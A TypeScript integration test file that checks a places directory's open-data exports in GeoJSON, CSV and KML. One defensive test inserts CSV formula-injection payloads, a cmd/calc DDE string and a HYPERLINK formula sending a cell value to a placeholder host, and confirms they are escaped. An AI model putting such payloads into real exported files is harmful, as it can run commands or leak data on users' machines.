import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { XMLParser } from 'fast-xml-parser';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PlaceData } from '../../src/domain/places/place.ts';
import { changedFields } from '../../src/domain/places/place-changes.ts';
import { neighbourhoodOf } from '../../src/domain/taxonomy/neighbourhood-of.ts';
import { buildApp } from '../../src/http/app.ts';
import type { AppContext } from '../../src/usecases/context.ts';
import { createContext } from '../../src/usecases/create-context.ts';
import { importPlaces } from '../../src/usecases/import-places.ts';
import { BACKENDS, freshDatabase, type TestDatabase } from '../support/backends.ts';
import { gdalAvailable } from '../support/gdal.ts';

const place = (overrides: Partial<PlaceData>): PlaceData => ({
  names: { ru: 'Сырники и кофе', 'sr-Latn': 'Sirniki i kafa', en: 'Syrniki & Coffee' },
  originalLocale: 'ru',
  descriptions: {
    ru: 'Завтраки весь день, "лучшие" сырники;\nвторая строка',
    en: 'Breakfast all day, = best',
  },
  category: 'cafe',
  extraCategories: ['bakery'],
  lon: 20.4633123,
  lat: 44.8226456,
  address: 'Cara Dušana 10',
  city: 'belgrade',
  neighbourhood: 'dorcol',
  contacts: {
    phone: '+381 64 123 4567',
    telegram: '@syrniki',
    website: 'https://syrniki.rs',
    email: 'a@syrniki.rs',
  },
  hours: 'Mo-Fr 08:00-22:00; Sa 10:00-16:00',
  languages: ['ru', 'sr', 'en'],
  tags: ['wifi', 'с детьми'],
  status: 'active',
  isDemo: false,
  provenance: { source: 'test' },
  ...overrides,
});

const PLACES: PlaceData[] = [
  place({}),
  place({
    names: { 'sr-Latn': 'Frizerski salon Đurđa' },
    originalLocale: 'sr-Latn',
    descriptions: {},
    category: 'hair-salon',
    extraCategories: [],
    lon: 20.4571,
    lat: 44.8125,
    address: null,
    neighbourhood: null,
    contacts: {},
    hours: null,
    languages: ['sr'],
    tags: [],
    localsWelcome: true,
    opened: '2023-04',
  }),
  place({
    names: { ru: 'Стоматология Улыбка', uk: 'Стоматологія Посмішка' },
    category: 'dentist',
    extraCategories: [],
    lon: 19.8335,
    lat: 45.2551,
    city: 'novi-sad',
    neighbourhood: null,
    contacts: { phone: '+381 21 555 0101', instagram: '@ulybka.ns' },
  }),
  place({ names: { ru: 'Ждёт модерации' }, status: 'pending', lon: 20.45 }),
  place({ names: { ru: 'Закрылось' }, status: 'closed', lon: 20.44 }),
  place({ names: { ru: 'Демо-кафе' }, isDemo: true, lon: 20.43 }),
];
const PUBLIC = 3;

describe.each(BACKENDS)('open-data exports on %s', (backend) => {
  let database: TestDatabase;
  let ctx: AppContext;
  let app: FastifyInstance;
  let dir: string;

  beforeAll(async () => {
    database = await freshDatabase(backend);
    ctx = await createContext(database.storage);
    // As preparePlace would store them: the neighbourhood follows from the coordinates.
    await ctx.storage.places.insertMany(
      PLACES.map((p) => ({
        ...p,
        neighbourhood: neighbourhoodOf(ctx.taxonomy.cities, p.lon, p.lat)?.neighbourhood ?? null,
      })),
    );
    dir = mkdtempSync(join(tmpdir(), 'kvartal-export-'));
    app = await buildApp({
      ctx,
      config: {
        adminToken: null,
        logLevel: 'warn',
        publicUrl: 'https://kvartal.example',
        exportCacheDir: join(dir, 'cache'),
      },
      logger: false,
    });
  });
  afterAll(async () => {
    await app.close();
    await database.drop();
    rmSync(dir, { recursive: true, force: true });
  });

  const download = async (format: string) => {
    const response = await app.inject({ url: `/api/v1/export.${format}` });
    expect(response.statusCode).toBe(200);
    const file = join(dir, `export.${format}`);
    writeFileSync(file, response.rawPayload);
    return { response, file, text: response.body };
  };

  it('GeoJSON: public places only, licence and attribution stated, cacheable and open to other sites', async () => {
    const { response, text } = await download('geojson');
    expect(response.headers['content-type']).toMatch(/^application\/geo\+json/);
    expect(response.headers['access-control-allow-origin']).toBe('*');
    expect(response.headers.link).toContain('rel="license"');
    expect(response.headers['last-modified']).toBeTruthy();
    const collection = JSON.parse(text);
    expect(collection.license).toBe('ODbL-1.0');
    expect(collection.attribution).toMatch(/Open Database License/);
    const names = collection.features.map((f: { properties: { name: string } }) => f.properties.name);
    expect(names).toHaveLength(PUBLIC);
    expect(names).toEqual(
      expect.arrayContaining(['Frizerski salon Đurđa', 'Сырники и кофе', 'Стоматология Улыбка']),
    );
    const cafe = collection.features.find(
      (f: { properties: { name: string } }) => f.properties.name === 'Сырники и кофе',
    );
    expect(cafe.geometry.coordinates).toEqual([20.4633123, 44.8226456]);
    expect(cafe.properties).toMatchObject({
      'name:en': 'Syrniki & Coffee',
      category: 'cafe',
      extra_categories: 'bakery',
      opening_hours: 'Mo-Fr 08:00-22:00; Sa 10:00-16:00',
      languages: 'ru;sr;en',
      'kvartal:url': expect.stringMatching(/^https:\/\/kvartal\.example\/ru\/p\/\d+-/),
    });
  });

  it('answers 304 to a conditional request until the data changes', async () => {
    const first = await app.inject({ url: '/api/v1/export.csv' });
    const etag = String(first.headers.etag);
    const again = await app.inject({ url: '/api/v1/export.csv', headers: { 'if-none-match': etag } });
    expect(again.statusCode).toBe(304);
    const since = await app.inject({
      url: '/api/v1/export.csv',
      headers: { 'if-modified-since': String(first.headers['last-modified']) },
    });
    expect(since.statusCode).toBe(304);
    const extra = await ctx.storage.places.insert(place({ names: { ru: 'Новое место' }, lon: 20.47 }));
    const changed = await app.inject({ url: '/api/v1/export.csv', headers: { 'if-none-match': etag } });
    expect(changed.statusCode).toBe(200);
    expect(changed.body).toContain('Новое место');
    await ctx.storage.places.update(extra.id, { ...extra, status: 'closed' });
  });

  it('CSV: UTF-8 with BOM, one header, Cyrillic and quoting intact', async () => {
    const { response, text } = await download('csv');
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = parseCsv(text, { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(PUBLIC);
    const cafe = rows.find((r) => r.name === 'Сырники и кофе');
    expect(cafe?.['description:ru']).toBe('Завтраки весь день, "лучшие" сырники;\nвторая строка');
    // A spreadsheet must not run a cell as a formula.
    expect(cafe?.['description:en']).toBe('Breakfast all day, = best');
    expect(cafe?.lat).toBe('44.8226456');
  });

  it('CSV: a cell that a spreadsheet would run as a formula is kept as text', async () => {
    const hostile = await ctx.storage.places.insert(
      place({
        names: { ru: "-1+cmd|' /C calc'!A0" },
        descriptions: { ru: '+1+HYPERLINK("http://x/?"&A1)' },
        lon: 20.475,
      }),
    );
    const { text } = await download('csv');
    expect(text).toContain('"\t-1+cmd|\' /C calc\'!A0"');
    expect(text).toContain('"\t+1+HYPERLINK(""http://x/?""&A1)"');
    await ctx.storage.places.update(hostile.id, { ...hostile, status: 'closed' });
  });

  it('KML: one folder per category, as My Maps shows layers', async () => {
    const { text } = await download('kml');
    const kml = new XMLParser({
      ignoreAttributes: false,
      isArray: (name) => ['Folder', 'Placemark', 'Data'].includes(name),
    }).parse(text);
    const folders = kml.kml.Document.Folder.map((f: { name: string; Placemark: unknown[] }) => [
      f.name,
      f.Placemark.length,
    ]);
    const folderName = (slug: string) => ctx.taxonomy.category(slug)?.names.ru;
    expect(folders).toEqual([
      [folderName('cafe'), 1],
      [folderName('hair-salon'), 1],
      [folderName('dentist'), 1],
    ]);
    expect(kml.kml.Document.description).toMatch(/Open Database License/);
  });

  it('round-trips: each export imports into an empty instance as the same places', async () => {
    const original = (
      await ctx.storage.places.list({ statuses: ['active'], demo: false, limit: 100 })
    ).filter((p) => p.names.ru !== 'Новое место');
    for (const format of ['geojson', 'csv', 'kml']) {
      const { response } = await download(format);
      const target = await freshDatabase(backend);
      try {
        const targetCtx = await createContext(target.storage);
        const report = await importPlaces(targetCtx, {
          fileName: `kvartal.${format}`,
          bytes: response.rawPayload,
        });
        expect(report.counts, format).toMatchObject({ new: PUBLIC, invalid: 0, duplicate: 0 });
        expect(report.warnings, format).toEqual([]);
        const imported = await targetCtx.storage.places.list({ limit: 100, demo: false });
        for (const before of original) {
          const after = imported.find((p) => p.provenance.sourceId === String(before.id));
          expect(after, `${format}: place ${before.id}`).toBeDefined();
          if (after) expect(changedFields(before, after), `${format}: place ${before.id}`).toEqual([]);
        }
      } finally {
        await target.drop();
      }
    }
  });

  it.runIf(gdalAvailable())(
    'is read by GDAL (ogrinfo) with the right feature counts and fields',
    async () => {
      const geojson = (await download('geojson')).file;
      const info = ogrinfo(geojson);
      expect(info).toMatch(new RegExp(`Feature Count: ${PUBLIC}\\b`));
      expect(info).toMatch(/^name: String/m);
      expect(info).toMatch(/^name:ru: String/m);
      expect(info).toMatch(/^opening_hours: String/m);

      const csv = (await download('csv')).file;
      const csvInfo = ogrinfo(csv, ['-oo', 'X_POSSIBLE_NAMES=lon', '-oo', 'Y_POSSIBLE_NAMES=lat']);
      expect(csvInfo).toMatch(new RegExp(`Feature Count: ${PUBLIC}\\b`));
      expect(csvInfo).toMatch(/^Geometry: Point/m);
      expect(csvInfo).toMatch(/^name:ru: String/m);

      const kml = (await download('kml')).file;
      const kmlInfo = execFileSync('ogrinfo', ['-ro', '-al', '-so', kml], { encoding: 'utf8' });
      const counts = [...kmlInfo.matchAll(/Feature Count: (\d+)/g)].map((m) => Number(m[1]));
      expect(counts.reduce((a, b) => a + b, 0)).toBe(PUBLIC);
      expect(counts).toHaveLength(3);
    },
  );
});

function ogrinfo(file: string, options: string[] = []): string {
  return execFileSync('ogrinfo', ['-ro', '-al', '-so', ...options, file], { encoding: 'utf8' });
}
